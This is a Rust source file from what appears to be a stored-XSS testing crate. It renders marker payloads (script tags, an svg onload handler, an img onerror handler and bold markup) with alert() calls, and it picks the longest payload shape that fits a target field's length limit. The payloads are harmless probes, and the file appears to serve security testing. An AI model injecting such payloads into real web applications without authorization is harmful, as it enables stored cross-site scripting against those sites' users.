// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Marker payloads for stored XSS probes

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::fixture::EntityKind;

/// Shape of a payload, most convincing first
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum PayloadKind {
    /// `<script>alert('M')</script>`
    ScriptTag,
    /// `<svg onload=alert('M')>`
    SvgOnload,
    /// `<img src=x onerror=alert('M')>`
    ImgOnerror,
    /// `<b>M</b>`: markup only, for fields too short for a script
    BoldTag,
}

impl PayloadKind {
    pub const ALL: [PayloadKind; 4] = [
        PayloadKind::ScriptTag,
        PayloadKind::SvgOnload,
        PayloadKind::ImgOnerror,
        PayloadKind::BoldTag,
    ];

    pub fn render(&self, marker: &str) -> String {
        match self {
            PayloadKind::ScriptTag => format!("<script>alert('{}')</script>", marker),
            PayloadKind::SvgOnload => format!("<svg onload=alert('{}')>", marker),
            PayloadKind::ImgOnerror => format!("<img src=x onerror=alert('{}')>", marker),
            PayloadKind::BoldTag => format!("<b>{}</b>", marker),
        }
    }
}

/// Builder for a payload that fits the field it is stored in
///
/// # Example
///
/// ```rust
/// use schoolmate_xss::fixture::EntityKind;
/// use schoolmate_xss::xss::{PayloadKind, StoredPayload};
///
/// let payload = StoredPayload::new("x1").for_entity(EntityKind::Semester);
/// assert_eq!(payload.fitted_kind().unwrap(), PayloadKind::BoldTag);
/// assert_eq!(payload.build().unwrap(), "<b>x1</b>");
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StoredPayload {
    marker: String,
    kind: Option<PayloadKind>,
    max_len: Option<usize>,
}

impl StoredPayload {
    pub fn new(marker: impl Into<String>) -> Self {
        Self {
            marker: marker.into(),
            kind: None,
            max_len: None,
        }
    }

    /// Payload with a fresh time-derived marker
    pub fn with_random_marker() -> Self {
        Self::new(fresh_marker())
    }

    /// Force one payload shape instead of the best that fits
    pub fn kind(mut self, kind: PayloadKind) -> Self {
        self.kind = Some(kind);
        self
    }

    /// Longest payload the target field keeps
    pub fn max_len(mut self, max_len: usize) -> Self {
        self.max_len = Some(max_len);
        self
    }

    /// Take the length budget from the entity's contract
    pub fn for_entity(mut self, entity: EntityKind) -> Self {
        self.max_len = entity.contract().max_len;
        self
    }

    pub fn marker(&self) -> &str {
        &self.marker
    }

    fn fits(&self, rendered: &str) -> bool {
        self.max_len.map_or(true, |max| rendered.chars().count() <= max)
    }

    /// The shape `build` will use
    pub fn fitted_kind(&self) -> Result<PayloadKind> {
        let candidates: &[PayloadKind] = match self.kind {
            Some(ref kind) => std::slice::from_ref(kind),
            None => &PayloadKind::ALL,
        };
        candidates
            .iter()
            .copied()
            .find(|kind| self.fits(&kind.render(&self.marker)))
            .ok_or_else(|| {
                Error::config(format!(
                    "no payload for marker '{}' fits in {} characters",
                    self.marker,
                    self.max_len.unwrap_or_default()
                ))
            })
    }

    pub fn build(&self) -> Result<String> {
        Ok(self.fitted_kind()?.render(&self.marker))
    }
}

fn fresh_marker() -> String {
    let nanos = chrono::Utc::now().timestamp_subsec_nanos();
    format!("x{:x}", nanos & 0xffff)
}
